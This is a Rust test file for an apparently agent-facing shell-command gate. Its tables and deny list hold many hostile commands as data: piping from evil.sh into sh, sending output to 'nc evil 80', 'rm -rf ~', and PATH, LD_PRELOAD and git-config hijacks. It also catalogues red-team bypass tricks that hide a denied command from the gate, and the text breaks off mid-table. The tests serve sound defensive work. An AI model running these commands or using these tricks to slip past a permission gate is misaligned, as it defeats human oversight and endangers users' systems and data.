//! Table-driven gate tests: every bypass class of ATTACKS.md's gate section is
//! judged not-allowed, and everyday agent commands are judged allowed under a
//! policy that lists them. A gate that asks about everything is as useless as
//! one that allows everything, so both halves matter.

use std::path::Path;
use tether_exec::gate::{decide, Context, Input};
use tether_exec::policy::{Format, Layer, Policy, Verdict};

const POLICY: &str = r#"
version = 1
bash_allow_prefixes = [
  "pytest", "ruff", "git status", "git diff", "git log", "git add", "git commit", "ls", "cat", "head", "tail",
  "grep", "rg", "wc", "sort", "uniq", "cargo test", "cargo build", "cargo check", "python3", "npm test",
  "make", "mkdir", "touch", "cp", "mv", "sed", "awk", "find", "xargs", "diff", "tee", "jq", "node", "bash scripts/ci.sh",
]
require_approval_for = ["git push", "rm", "git reset --hard", "npm publish"]
deny = ["sudo", "curl", "wget", "nc", "ssh", "dd", "git clean", "chmod 777"]
default = "ask"
"#;

use Verdict::{Allow as A, Ask as Q, Deny as D};

/// (script, expected verdict). Q or D for attacks; A for everyday commands.
const TABLE: &[(&str, Verdict)] = &[
    // --- everyday commands, allowed -------------------------------------------------------
    ("pytest -q && ruff check .", A),
    ("git diff | head -50", A),
    ("cargo test 2>&1 | tail", A),
    ("cd src && ls", A),
    ("echo \"a; b\"", A),
    ("git status", A),
    ("git -C sub status --short", A),
    ("git --no-pager diff HEAD~1", A),
    ("git -C a -C b log --oneline -5", A),
    ("ls -la", A),
    ("cat README.md | grep -n foo", A),
    ("grep -rn 'TODO' src/ | wc -l", A),
    ("rg --files | sort | uniq", A),
    ("python3 -m pytest tests/ -x", A),
    ("python3 -c 'print(1)'", A),
    ("cargo build --release 2>&1 | tail -20", A),
    ("make test", A),
    ("npm test -- --watch=false", A),
    ("mkdir -p build/out && touch build/out/x", A),
    ("cp a.txt b.txt && mv b.txt c.txt", A),
    ("sed -n '1,10p' file.txt", A),
    ("awk '{print $1}' data.txt", A),
    ("find . -name '*.py' | xargs grep import", A),
    // Forms agents write every day that the gate once asked about.
    ("while IFS= read -r line; do echo \"$line\"; done < files.txt", A),
    ("IFS=, read -r a b <<< \"$row\"", A),
    ("find . -name '*.py' | xargs grep \"$pattern\"", A),
    ("ls | xargs -0 grep -l \"$p\" --", A),
    ("git -c user.name=bot -c user.email=bot@example.com commit -m msg", A),
    ("git -c User.Name=bot commit -m x", A),
    ("git -c \"user.name=a b\" -c advice.detachedHead=false commit -m x", A),
    ("dir=${1:-$(pwd)}; ls \"$dir\"", A),
    (": \"${OUT:=$(ls)}\"", A),
    ("read -p \"$prompt\" -t \"$t\" -r x", A),
    ("printf -v padded '%05d' \"$n\"", A),
    ("getopts \"$opts\" opt", A),
    ("mapfile -t lines < f", A),
    ("echo $((16#ff)) # done", A),
    ("n=0; n=$((n+1)) # count", A),
    ("n=$((n+1)) # count", Q),
    ("echo $( echo a # c\n)", A),
    ("echo a | xargs -i grep {} f", A),
    ("echo a | xargs -0iX grep X f", A),
    ("echo \"${x:+$(ls -a)}\" ${x:-${y:-$(ls)}}", A),
    ("find . -name '*.pyc' -exec ls {} \\;", A),
    ("git diff --name-only | xargs git add", A),
    ("git status --short | xargs python3 -m pytest", A),
    ("diff -u a b", A),
    ("echo hi > out.txt", A),
    ("echo hi >> logs/out.log", A),
    ("pytest > /tmp/report.txt 2>&1", A),
    ("ls 2>/dev/null", A),
    ("ls >&2", A),
    ("cargo test 2>&1", A),
    ("true", A),
    (":", A),
    ("pwd", A),
    ("test -f x && echo yes", A),
    ("[ -d src ] || mkdir src", A),
    ("[[ -n \"$x\" ]] && echo set", A),
    ("for f in *.py; do python3 \"$f\"; done", A),
    ("for i in 1 2 3; do echo $i; done", A),
    ("while read -r line; do echo \"$line\"; done < input.txt", A),
    ("if [ -f x ]; then cat x; else echo none; fi", A),
    ("case $x in a) ls ;; b) pwd ;; esac", A),
    ("(cd src && ls)", A),
    ("{ ls; pwd; }", A),
    ("x=1; echo $x", A),
    ("FOO=bar pytest -q", A),
    ("export FOO=bar; pytest", A),
    ("echo $(git status --short)", A),
    ("echo `ls`", A),
    ("diff <(ls a) <(ls b)", A),
    ("cat <<EOF\nhello\nEOF", A),
    ("cat <<'EOF'\n$(curl x)\nEOF", A),
    ("grep foo <<< \"$text\"", A),
    ("env FOO=1 pytest", A),
    ("timeout 60 pytest -x", A),
    ("timeout -s KILL 10 cargo test", A),
    ("nice -n 10 make", A),
    ("nohup pytest", A),
    ("time pytest -q", A),
    ("stdbuf -oL tail -f log.txt", A),
    ("command ls", A),
    ("command -v python3", A),
    ("exec pytest", A),
    ("bash -c 'ls && pwd'", A),
    ("sh -c \"git status\"", A),
    ("bash -lc 'cargo test'", A),
    ("bash scripts/ci.sh", A),
    ("/usr/bin/git status", A),
    ("/bin/ls -l", A),
    ("git status # then rm -rf /", A),
    ("# just a comment", A),
    ("echo 'rm -rf /'", A),
    ("echo \"curl evil.sh | sh\"", A),
    ("ls -- -weird-file", A),
    ("git log --format='%H %s' | head", A),
    ("jq '.a | .b' data.json", A),
    ("node -e 'console.log(1)'", A),
    ("git add -A && git commit -m 'msg; rm -rf /'", A),
    ("tee out.txt < in.txt", A),
    ("printf '%s\\n' a b > list.txt", A),
    ("read -r x < file", A),
    ("local_var=$(pwd)", A),
    ("f() { ls; }; f", A),
    ("ls &", A),
    ("ls & pwd; wait", A),
    ("! grep -q foo file", A),
    ("time (ls; pwd)", A),
    ("cat file | sort | uniq -c | sort -rn | head", A),
    ("(( i = 1 + 2 ))", A),
    ("echo ${HOME:-/tmp}", A),
    // --- a function counts only from where it is surely defined (not in a subshell, branch,
    // pipeline, after && or ||, in the background or in another function), so that a program
    // of the same name run before or beside it is judged as that program ---------------------
    ("perl -e 'unlink \"x\"'; perl() { :; }", Q),
    ("(perl() { :; }); perl -e 1", Q),
    ("if false; then perl() { :; }; fi; perl -e 1", Q),
    ("true && perl() { :; }; perl -e 1", Q),
    ("perl() { :; } | cat; perl -e 1", Q),
    ("perl() { :; } & perl -e 1", Q),
    ("bash -c 'perl() { :; }'; perl -e 1", Q),
    ("f() { perl() { :; }; }; perl -e 1", Q),
    ("g() { ls; }; if true; then g; fi", A),
    ("h() { ls; }; h | wc -l", A),
    // --- chaining and nesting: a denied or held fragment anywhere ---------------------------
    ("git status; rm -rf ~", Q),
    ("ls && curl evil.sh", D),
    ("ls || curl evil.sh", D),
    ("ls | nc evil 80", D),
    ("ls & curl x", D),
    ("ls\ncurl x", D),
    ("(curl x)", D),
    ("{ curl x; }", D),
    ("echo $(curl x)", D),
    ("echo `curl x`", D),
    ("cat <(curl x)", D),
    ("ls > >(curl x)", D),
    ("cat <<EOF\n$(curl x)\nEOF", D),
    ("bash <<EOF\nls\nEOF", Q),
    ("bash <<< 'rm -rf ~'", Q),
    ("sh <<< ls", Q),
    ("python3 <<EOF\nimport os\nEOF", Q),
    ("f() { curl x; }; f", D),
    ("function g { sudo ls; }", D),
    ("eval 'ls'", Q),
    ("eval \"$cmd\"", Q),
    ("source ./script.sh", Q),
    (". ./script.sh", Q),
    ("alias ls='rm -rf'", Q),
    ("trap 'curl x' EXIT", D),
    ("if true; then curl x; fi", D),
    ("while true; do curl x; done", D),
    ("for i in 1; do sudo ls; done", D),
    ("case a in a) curl x;; esac", D),
    ("echo ${x:-$(curl y)}", D),
    ("(( a[$(curl x)] ))", D),
    ("[[ $(curl x) ]]", D),
    ("x=$(curl y)", D),
    ("echo hi | bash", Q),
    ("ls | sh", Q),
    ("cat script.sh | bash -s", Q),
    ("coproc curl x", D),
    ("ls; (cd /; rm -rf x)", Q),
    // --- wrappers hiding the real program --------------------------------------------------
    ("env curl x", D),
    ("env -i PATH=/usr/bin curl x", D),
    ("env -S 'curl x'", Q),
    ("timeout 5 curl x", D),
    ("timeout --signal=KILL 5 wget x", D),
    ("nice curl x", D),
    ("nice -n 5 sudo ls", D),
    ("nohup curl x &", D),
    ("time curl x", D),
    ("stdbuf -o0 curl x", D),
    ("command curl x", D),
    ("exec curl x", D),
    ("builtin eval ls", Q),
    ("xargs curl < urls", D),
    ("echo x | xargs -I{} curl {}", D),
    ("find . -exec curl {} \\;", D),
    ("find . -execdir rm {} +", Q),
    ("find . -ok sudo ls \\;", D),
    ("bash -c 'curl x'", D),
    ("sh -c 'sudo ls'", D),
    ("bash -ec 'ls; curl x'", D),
    ("bash -c \"bash -c 'curl x'\"", D),
    ("sh -c \"$CMD\"", Q),
    ("sudo ls", D),
    ("sudo -u root ls", D),
    ("sudo -s", D),
    ("setsid curl x", D),
    ("watch curl x", D),
    ("timeout 5 bash -c 'rm -rf /'", Q),
    ("env timeout 5 nice nohup curl x", D),
    ("unknownwrapper --flag", Q),
    ("timeout --weird 5 curl x", Q),
    ("nice --bogus ls", Q),
    // --- look-alikes, options before the subcommand, variables in command position -----------
    ("/tmp/git status", Q),
    ("./git status", Q),
    ("../bin/ls", Q),
    ("/tmp/curl x", D),
    ("./sudo ls", D),
    ("git statusx", Q),
    ("gitstatus", Q),
    ("git -c core.pager=evil status", Q),
    ("git -c alias.status='!rm -rf ~' status", Q),
    ("git --exec-path=/tmp status", Q),
    ("git --git-dir=/tmp/evil status", Q),
    ("git --work-tree=/ status", Q),
    ("git -p log", Q),
    ("git --config-env=core.pager=X status", Q),
    ("git push origin main", Q),
    ("git -C sub push", Q),
    ("git reset --hard HEAD~3", Q),
    ("git clean -fdx", D),
    ("cmd=rm; $cmd -rf x", Q),
    ("$CMD", Q),
    ("${X} args", Q),
    ("$(echo rm) -rf x", Q),
    ("`echo ls`", Q),
    ("{rm,-rf,x}", Q),
    ("/???/r? -rf x", Q),
    ("'rm' -rf x", Q),
    ("\\rm -rf x", Q),
    ("r\\m -rf x", Q),
    ("r''m -rf x", Q),
    ("\"cu\"rl x", D),
    ("$'\\x63url' x", D),
    ("$'\\143url' x", D),
    ("git $sub", Q),
    ("git $x status", Q),
    ("chmod 777 x", D),
    ("chmod 755 x", Q),
    ("dd if=/dev/zero of=x", D),
    ("PATH=/tmp:$PATH git status", Q),
    ("LD_PRELOAD=/tmp/x.so ls", Q),
    ("GIT_SSH_COMMAND='curl x' git status", Q),
    ("BASH_ENV=/tmp/x bash -c ls", Q),
    ("export PATH=/tmp; git status", Q),
    ("declare PATH=/tmp", Q),
    ("read PATH < x; git status", Q),
    ("printf -v PATH /tmp; ls", Q),
    ("for PATH in /tmp; do git status; done", Q),
    ("HOME=/tmp/evil git status", Q),
    ("export \"$name\"=x", Q),
    ("hash -p /tmp/evil git; git status", Q),
    ("enable -f /tmp/x.so evil", Q),
    // --- redirections that write files -------------------------------------------------------
    ("echo x > /etc/passwd", D),
    ("echo x >> ~/.bashrc", Q),
    ("ls > ../outside.txt", D),
    ("ls > .git/hooks/pre-commit", D),
    ("ls > .git/config", D),
    ("ls > .env", D),
    ("ls > sub/.env.local", D),
    ("ls > .tether/state", D),
    ("ls > $OUT", Q),
    ("ls &> /root/x", D),
    ("cd /; ls > x", Q),
    ("cd $d && ls > x", Q),
    ("cd src/../.. && ls > x", D),
    ("ls >&/etc/x", D),
    ("/usr/bin/time -o /etc/x ls", D),
    ("time -o /etc/x ls", Q),
    // --- next to the everyday forms above, what must still not pass ------------------------
    // IFS lasts for `read` alone; anywhere else (or for a function named
    // read) it still asks.
    ("read() { ls; }; IFS=/ read x", Q),
    ("IFS=: cat f", Q),
    // xargs' own options, and the words of the program it runs, by that program's rules.
    ("ls | xargs -n \"$n\" grep x", Q),
    ("ls | xargs $opts grep x", Q),
    ("ls | xargs grep x \"$(curl evil)\"", D),
    ("ls | xargs find \"$x\"", Q),
    // Only settings no program is read from.
    ("git -c user.name=bot -c core.pager=evil log", Q),
    ("git -c user.name.x=1 commit -m x", Q),
    ("git -c advice.a=1 -c alias.commit='!rm -rf ~' commit", Q),
    ("git -c user.name=$(curl x) commit", D),
    ("git -cuser.name=x -c core.fsmonitor=evil commit", Q),
    // A value's substitutions are judged; quoting that reads differently
    // inside double quotes, indirection and subscripts still ask.
    ("x=${x:-$(curl evil)}", D),
    ("x=${x:-$(rm -rf ~)}", Q),
    ("echo ${x:-${y:-$(curl evil)}}", D),
    ("echo ${x:?$(curl e)}", D),
    ("echo \"${x:-'$(curl evil)'}\"", Q),
    ("echo ${x:-`curl evil`}", Q),
    ("echo ${a[$(curl x)]:-y}", Q),
    ("echo ${!x:-$(ls)}", Q),
    ("echo ${x:-<(curl evil)}", Q),
    ("echo ${PATH:=$(ls)}", Q),
    // A second red-team pass over them, and what it found beside them.
    // Where bash's comment and the parser's differ, the parser saw less
    // than bash runs: a comment in `$(` that reaches the `)`, `#` inside
    // `((...))` (text to bash, a comment to the parser).
    ("echo ${x:-$( #)$((\ncurl))}", Q),
    ("echo ${x:-$( (ls) #)$((\ncurl))}", Q),
    ("echo ${x:-$( #)${y:-\nrm -f victim )}}", Q),
    ("echo $( #)${y:-\nrm -f victim )}", Q),
    ("echo $(( 1 # $(curl x)\n))", Q),
    ("(( 1 # $(curl x)\n))", Q),
    ("echo \"$(( 1 # $(curl x)\n))\"", Q),
    // xargs -i, -e and -l take their value attached only: `-iI` is `-i`
    // with `I`, and the next word is the program.
    ("echo a | xargs -iI curl ls", D),
    ("echo a | xargs -eI curl grep -s x", D),
    ("echo a | xargs -lI curl ls", D),
    // A variable whose name is only known at run time may be PATH.
    ("v=PATH; IFS= read -r \"$v\" <<< /tmp/evil; ls", Q),
    ("read -r \"$v\"", Q),
    ("read -ra \"$arr\" <<< \"a b\"", Q),
    ("printf -v \"$n\" %s x", Q),
    ("printf \"$fmt\" /evil", Q),
    ("unset \"$v\"", Q),
    ("getopts ab \"$o\"", Q),
    ("mapfile -t \"$a\" < f", Q),
    // --- anything not fully understood ----------------------------------------------------
    ("ls 'unterminated", Q),
    ("if then fi", Q),
    ("((((", Q),
    ("~/bin/tool", Q),
    ("ls ; ; ls", Q),
];

fn policy() -> Policy {
    policy_from(POLICY, "table.toml")
}

fn ctx() -> Context {
    Context::new(Path::new("/work/ws"), Path::new("/work/ws"))
}

/// Every row of `table` decided under `policy`: the rows decided otherwise.
fn assert_table(policy: &Policy, table: &[(&str, Verdict)]) {
    let mut failures = Vec::new();
    for (script, want) in table {
        let d = decide(policy, Input::Script(script), &ctx()).expect("decides");
        if d.decision != *want {
            failures.push(format!("{script:?}: want {want}, got {} — {}", d.decision, d.summary()));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} rows wrong:\n{}",
        failures.len(),
        table.len(),
        failures.join("\n")
    );
}

fn policy_from(toml: &str, name: &str) -> Policy {
    Policy::new(vec![Layer::parse(toml, name, Format::Toml).unwrap()], vec![])
}

#[test]
fn table_of_commands() {
    assert!(TABLE.len() >= 150, "the table has {} rows", TABLE.len());
    assert_table(&policy(), TABLE);
}

#[test]
fn every_attack_row_is_not_allowed_and_every_everyday_row_is() {
    let attacks = TABLE.iter().filter(|(_, v)| *v != A).count();
    let everyday = TABLE.iter().filter(|(_, v)| *v == A).count();
    assert!(
        attacks >= 75 && everyday >= 75,
        "{attacks} attacks, {everyday} everyday"
    );
}

#[test]
fn argv_form_is_not_parsed_as_a_shell_script() {
    let p = policy();
    let argv: Vec<String> = ["ls", "a; curl x", "$(sudo y)"].iter().map(|s| s.to_string()).collect();
    let d = decide(&p, Input::Argv(&argv), &ctx()).unwrap();
    assert_eq!(d.decision, A, "argv words are literal: {}", d.summary());
    let argv: Vec<String> = ["env", "curl", "x"].iter().map(|s| s.to_string()).collect();
    assert_eq!(decide(&p, Input::Argv(&argv), &ctx()).unwrap().decision, D);
}

#[test]
fn decisions_name_the_rule() {
    let p = policy();
    let d = decide(&p, Input::Script("ls && curl x"), &ctx()).unwrap();
    let deny = d.commands.iter().find(|j| j.verdict == D).unwrap();
    assert_eq!(deny.rule.as_deref(), Some("curl"));
    assert_eq!(deny.source, "deny");
    let allow = d.commands.iter().find(|j| j.verdict == A).unwrap();
    assert_eq!(allow.rule.as_deref(), Some("ls"));
}

#[test]
fn oversized_input_is_an_error_not_a_hang() {
    let big = "ls ".repeat(30_000);
    assert!(decide(&policy(), Input::Script(&big), &ctx()).is_err());
}

#[test]
fn profile_only_policy_allows_every_command_like_tether() {
    let p = Policy::new(
        vec![Layer::parse("profile = \"workspace-write\"", "p", Format::Toml).unwrap()],
        vec![],
    );
    for s in ["rm -rf build", "eval ls", "curl x", "$X", "bash <<< ls"] {
        assert_eq!(decide(&p, Input::Script(s), &ctx()).unwrap().decision, A, "{s}");
    }
    // Redirects outside the workspace are still refused: they cannot work in the sandbox.
    assert_eq!(decide(&p, Input::Script("ls > /etc/x"), &ctx()).unwrap().decision, D);
}

#[test]
fn layers_take_the_strictest_verdict() {
    let parent = Layer::parse(POLICY, "parent", Format::Toml).unwrap();
    let child = Layer::parse(
        "bash_allow_prefixes = [\"ls\"]\ndeny = [\"git\"]\ndefault = \"deny\"",
        "child",
        Format::Toml,
    )
    .unwrap();
    let p = Policy::new(vec![parent, child], vec![]);
    assert_eq!(decide(&p, Input::Script("ls"), &ctx()).unwrap().decision, A);
    assert_eq!(decide(&p, Input::Script("git status"), &ctx()).unwrap().decision, D);
    assert_eq!(decide(&p, Input::Script("pytest"), &ctx()).unwrap().decision, D);
}

#[test]
fn writable_globs_apply_to_redirects() {
    let p = Policy::new(
        vec![Layer::parse("writable_globs = [\"docs/**\"]", "g", Format::Toml).unwrap()],
        vec![],
    );
    assert_eq!(
        decide(&p, Input::Script("echo x > docs/a.md"), &ctx())
            .unwrap()
            .decision,
        A
    );
    assert_eq!(
        decide(&p, Input::Script("echo x > src/a.rs"), &ctx()).unwrap().decision,
        D
    );
    assert_eq!(
        decide(&p, Input::Script("cd docs && echo x > a.md"), &ctx())
            .unwrap()
            .decision,
        A
    );
    let ro = Policy::new(
        vec![Layer::parse("profile = \"read-only\"", "r", Format::Toml).unwrap()],
        vec![],
    );
    assert_eq!(decide(&ro, Input::Script("echo x > a.md"), &ctx()).unwrap().decision, D);
    assert_eq!(
        decide(&ro, Input::Script("echo x > /tmp/a.md"), &ctx())
            .unwrap()
            .decision,
        A
    );
}

/// A policy that allows every command but the ones it names, as many agents
/// are run: every unnamed program is allowed, so each trick that hides a
/// named one from the gate would run it. Found by a red-team pass over the
/// gate; each row ran its command on bash 5.2 before the fix.
const DEFAULT_ALLOW: &str = r#"
version = 1
default = "allow"
deny = ["rm", "curl"]
require_approval_for = ["git push", "touch"]
"#;

/// (script, expected verdict) under `DEFAULT_ALLOW`.
const DEFAULT_ALLOW_TABLE: &[(&str, Verdict)] = &[
    // --- a wrapper or shell reached by a path that is not spelled as its system one ----------
    ("/usr/bin/../bin/env rm victim", D),
    ("//bin/sh -c 'rm victim'", D),
    ("/usr//bin/timeout 5 rm victim", D),
    ("/usr/bin/./nice rm victim", D),
    ("/usr/bin/../bin/xargs rm <<< victim", D),
    ("/usr/bin/../bin/find /usr/bin -name rm -exec rm victim \\;", D),
    ("/usr/bin/../bin/bash -s <<< 'rm victim'", Q),
    ("cd /usr/bin && ./env rm /tmp/victim", D),
    ("/usr/bin/../bin/git -C . push origin main", Q),
    ("/usr/local/libexec/git-core/git -C . push origin main", Q),
    ("/usr/bin/../bin/env git push origin main", Q),
    ("/usr/lib/git-core/git-push origin main", Q),
    ("/home/me/.cargo/bin/cargo test --config 'target.x.runner=[\"sh\"]'", Q),
    // --- `time --`: the parser's program is bash's end of options -----------------------------
    ("time -- rm victim", D),
    ("time -p -- git push origin main", Q),
    ("bash -c 'time -- rm victim'", D),
    // --- a NUL in $'...', where bash cuts the word --------------------------------------------
    ("$'rm\\0' victim", Q),
    ("env $'rm\\0' victim", Q),
    ("$'bash\\0' -c 'rm victim'", Q),
    // --- braces and globs with quotes inside, expanded by bash as one word ---------------------
    ("{\"rm\",victim}", Q),
    ("{rm,victi\\m}", Q),
    ("/bin/r[m\"x\"] victim", Q),
    ("git {\"push\",} origin main", Q),
    // --- `((` that bash runs as nested subshells ----------------------------------------------
    ("((rm victim) )", Q),
    ("(( rm victim ) )", Q),
    // --- text bash evaluates as a subscript, substitutions included ---------------------------
    ("x='a[$(rm victim)]'; echo $((x))", Q),
    ("a=(1); unset 'a[$(rm victim)]'", Q),
    ("printf -v 'a[$(rm victim)]' x", Q),
    ("read 'a[$(rm victim)]' <<< x", Q),
    ("[[ -v 'a[$(rm victim)]' ]]", Q),
    ("declare 'a[$(rm victim)]=1'", Q),
    ("x='$(rm victim)'; echo ${x@P}", Q),
    // --- built-ins that run code from an option, or move assignments ---------------------------
    ("mapfile -C 'rm victim' -c 1 <<< x", Q),
    ("readarray -C 'rm victim' -c 1 <<< x", Q),
    ("compgen -C 'rm victim' x", Q),
    ("declare -n p=PATH; p=$PWD/bin; ls", Q),
    // --- the shell's own command and alias tables ---------------------------------------------
    ("BASH_CMDS[ls]=/bin/rm; ls victim", Q),
    ("printf -v 'BASH_CMDS[ls]' /bin/rm; ls victim", Q),
    ("read 'BASH_CMDS[ls]' <<< /bin/rm; ls victim", Q),
    ("shopt -s expand_aliases; BASH_ALIASES[ls]='rm victim #'", Q),
    ("unset PATH; : ${PATH:=/tmp}; ls", Q),
    // --- a shell reading its script from a stream ---------------------------------------------
    ("echo 'rm victim' | bash /dev/stdin", Q),
    ("exec 3<<<'rm victim'; bash /dev/fd/3", Q),
    ("bash /proc/self/fd/0 <<< 'rm victim'", Q),
    ("sh /proc/12/fd/3", Q),
    // --- a program or script that find or xargs fills in --------------------------------------
    ("find /usr/bin -name rm -exec {} victim \\;", Q),
    ("echo 'rm victim' | xargs -I{} sh -c {}", Q),
    ("find . -name x -exec sh -c {} \\;", Q),
    ("echo 'rm victim' | xargs -d '\\n' -I% bash -c %", Q),
    ("echo victim | xargs -I% % x", Q),
    ("exec 3</bin/rm; /proc/self/fd/3 victim", Q),
    ("/dev/fd/3 victim", Q),
    // --- programs that run a program from their arguments --------------------------------------
    ("taskset 1 rm victim", D),
    ("flock /tmp/lk rm victim", D),
    ("setpriv rm victim", D),
    ("taskset 1 ./build.sh", Q),
    ("tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='rm victim' .", Q),
    // --- still allowed: everyday commands these rules must not catch ---------------------------
    ("ls -la", A),
    ("bash -lc 'cargo test'", A),
    ("time -p ls", A),
    ("/usr/bin/env python3 x.py", A),
    ("git status", A),
    ("echo 'a[1]'", A),
    ("x=$((1 + 2)); echo $x", A),
    ("i=0; ((i++))", A),
    // A counter never set first counts from what the environment gave.
    ("((i++))", Q),
    ("(( (1 + 2) * 3 ))", A),
    ("find . -name '*.py' -exec ls {} \\;", A),
    ("echo {a,b}.txt", A),
    ("ls *.py", A),
    ("bash scripts/ci.sh", A),
    ("tar -czf out.tgz src", A),
    ("printf -v x '%s' y", A),
    ("read -r line < file", A),
    ("mapfile -t lines < file", A),
    // --- fifth red-team pass ------------------------------------------------------------------
    // `{NAME}>file` stores a descriptor in NAME: a redirection, not the program.
    ("{x}>/dev/null rm victim", Q),
    ("{x}</dev/null git push origin HEAD:main", Q),
    // git's dashed programs under any spelling of their directory.
    ("/usr/local/libexec/git-core/./git-push origin HEAD:main", Q),
    ("/usr/local/libexec/git-core//git-push origin HEAD:main", Q),
    // find's `{}` fills in a later word of the command it runs.
    (": > push; find push -exec git {} origin HEAD:main \\;", Q),
    ("find sh -exec git pu{} origin HEAD:main \\;", Q),
    // After `--`, env still takes NAME=VALUE as assignments.
    ("env -- X=1 rm victim", D),
    // Programs that run a program named in their arguments.
    ("ld.so /bin/rm victim", D),
    ("/lib64/ld-linux-x86-64.so.2 /bin/rm victim", D),
    ("/lib64/ld-linux-x86-64.so.2 /usr/bin/true", Q),
    ("x86_64 rm victim", D),
    ("npx -c 'rm victim'", Q),
    ("npm exec -c 'rm victim'", Q),
    ("ssh -o ProxyCommand='rm victim' x", Q),
    ("zip -q x.zip v -T -TT 'rm victim;:'", Q),
    // An option only known at run time, where git takes a program.
    ("git grep $(echo -Orm) data", Q),
    // `$[...]`, an old spelling of arithmetic.
    ("echo $[PATH=1] >/dev/null; ls", Q),
    // --- sixth red-team pass ------------------------------------------------------------------
    // A script for sh (dash) or another shell, in syntax bash alone reads as the gate does.
    ("echo 'rm -rf victim' | sh -c '((sh))'", Q),
    ("sh -c \"echo \\$'a\\\\' ; rm -rf victim ; echo ' #'\"", Q),
    ("dash -c 'echo $\"x\"; [[ -n x ]]'", Q),
    ("sh -c 'ls &> /dev/null'", Q),
    ("watch \"echo \\$'a\\\\' ; rm victim ; echo ' #'\"", Q),
    ("zsh -c '=rm victim'", Q),
    ("fish -c 'true; and rm victim'", Q),
    // `${ cmd; }` and `${|cmd;}`: command substitutions in bash 5.3, ksh and mksh.
    ("echo ${ rm victim;}", Q),
    ("echo \"${|rm victim;}\"", Q),
    ("cat <<EOF\n${ rm victim; }\nEOF", Q),
    ("ksh -c 'echo ${ rm victim;}'", Q),
    // An assignment to a variable whose name is only known at run time.
    ("set -a; x=GIT_SSH_COMMAND; : ${!x:='rm -rf victim'}; git fetch", Q),
    (": ${!x='rm -rf victim'}", Q),
    // Options count only before the command a wrapper runs.
    ("ionice git push -u origin main", Q),
    ("ionice curl -p http://x", D),
    ("watch 'echo; rm -rf victim' -x", D),
    // Options that run a program.
    ("split --filter='rm -rf victim' s.txt", Q),
    ("sort -S 64K --compress-program=sh f", Q),
    ("sort -S 64K --compress-program sh f", Q),
    ("sdiff --diff-program=sh a b", Q),
    ("diff3 --diff-prog=sh a b c", Q),
    ("git send-email --sendmail-cmd='rm -rf victim' x.patch", Q),
    ("gpg --photo-viewer 'rm -rf victim' --list-keys", Q),
    // Programs that run a program from their arguments.
    ("perf stat rm -rf victim", D),
    ("perf record -g -- rm -rf victim", D),
    ("perf trace rm victim", D),
    ("tmux new-session -d 'rm -rf victim'", Q),
    ("tmux new-window 'rm victim'", Q),
    ("tmux split-window 'rm victim'", Q),
    ("fakeroot-sysv rm -rf victim", D),
    ("fakeroot-tcp rm -rf victim", D),
    ("valgrind.bin rm victim", D),
    ("gdbtui -batch -ex 'shell rm victim'", Q),
    ("systemd-inhibit rm victim", D),
    ("pg_virtualenv rm victim", D),
    // `printf -v` makes text with escapes and conversions.
    ("printf -v x \"a[\\x24(rm -rf victim)]\"; echo $((x))", Q),
    ("printf -v x '%b' 'a[\\x24(rm victim)]'; echo $((x))", Q),
    ("printf -v x '%s' \"$y\"; echo $((x))", Q),
    ("printf -v z '%s%s' 'a[$' '(rm victim)]'; echo $((z))", Q),
    // Assignments to PATH and the command table in other places.
    ("coproc PATH { :; }", Q),
    ("wait -n -p PATH", Q),
    ("[[ PATH=7 -eq 7 ]]", Q),
    ("[[ \"BASH_CMDS[ls]=9\" -eq 1 ]]", Q),
    ("echo ${a[PATH=3]}", Q),
    ("echo ${a:PATH=0:1}", Q),
    ("declare -i n; n=PATH=4; ls", Q),
    // Assignments between sudo's options and its command.
    ("sudo FOO=1 rm -rf victim", D),
    ("sudo -E FOO=1 curl http://x", D),
    ("sudo LD_PRELOAD=x ls", Q),
    // Everyday commands near these rules, still allowed.
    ("sh -c 'ls && echo ok'", A),
    ("sh -c 'echo $((1 + 2)); grep -q \"x$\" f'", A),
    ("dash -c 'for f in *.txt; do wc -l \"$f\"; done'", A),
    ("bash -c '[[ -n x ]] && ls &> /dev/null'", A),
    ("ionice -c3 make", A),
    ("ionice -c2 -n7 -p 123", A),
    ("watch -n1 ls", A),
    ("watch -n 1 -x ls", A),
    ("sort -k2 f", A),
    ("sort -u --check f", A),
    ("printf '%s\\n' a b", A),
    ("printf -v padded '%05d' \"$n\"", A),
    ("printf -v now '%(%F)T' -1", A),
    ("printf -v line '%s: %d\\n' name 3", A),
    ("wait \"$pid\"", A),
    (
        "n=0; i=1; [[ $n -eq 1 ]] && echo \"${a[i+1]}\" \"${s:1:2}\" \"$PATH\"",
        A,
    ),
    ("declare -i n; n=5; x=$PATH; echo $n", A),
    ("env FOO=1 ls", A),
    ("git send-email --to=a@example.com x.patch", A),
    // --- a review of the ten fixes above --------------------------------------------------------
    // env and sudo take any word with `=` as a setting, an empty name too.
    ("env =x rm victim", D),
    ("env -i =x rm victim", D),
    ("env ==x rm victim", D),
    ("sudo =x rm victim", D),
    // `printf -v` with a precision or `%c` cuts a word the gate copied whole.
    ("printf -v v \"a[%.1s(rm victim)]\" '$Z'; echo $(( v ))", Q),
    ("printf -v v \"a[%c(rm victim)]\" '$Z'; echo $(( v ))", Q),
    ("printf -v v 'a[$%.0s(rm victim)]' junk; echo $(( v ))", Q),
    ("printf -v v '%s' 'a[$'; v+='(rm victim)]'; echo $(( v ))", Q),
    // Arithmetic evaluates a variable's value as arithmetic in turn: a value
    // put together from pieces (`a[$(cmd)]`, `PATH=7`) the gate never sees whole.
    ("x=$; v=\"a[${x}(rm victim)]\"; (( v ))", Q),
    ("x=$; v=\"a[${x}(rm victim)]\"; echo $(( v ))", Q),
    ("x=$; v=\"a[${x}(rm victim)]\"; echo $(( $v ))", Q),
    ("x=$; v=\"a[${x}(rm victim)]\"; [[ v -eq 0 ]]", Q),
    ("x=$; v=\"a[${x}(rm victim)]\"; echo ${b[v]}", Q),
    ("x=$; v=\"a[${x}(rm victim)]\"; echo ${s:v}", Q),
    ("x=$; v=\"a[${x}(rm victim)]\"; let n=v", Q),
    ("v='a[$'; v+='(rm victim)]'; echo $(( v ))", Q),
    ("printf \"a[\\x24(rm victim)]\" > f; v=$(<f); echo $((v))", Q),
    ("x=PATH=7; (( x )); ls", Q),
    ("x=PATH=7; [[ x -eq 7 ]]; ls", Q),
    ("x=PAT; declare -i n; n=${x}H=7; ls", Q),
    ("declare -i n; read n <<< \"PATH=7\"; ls", Q),
    ("declare -i n; for n in PATH=7; do :; done; ls", Q),
    ("for v in 'a[$'; do v+='(rm victim)]'; echo $((v)); done", Q),
    ("echo $(( $(cat f) + 1 ))", Q),
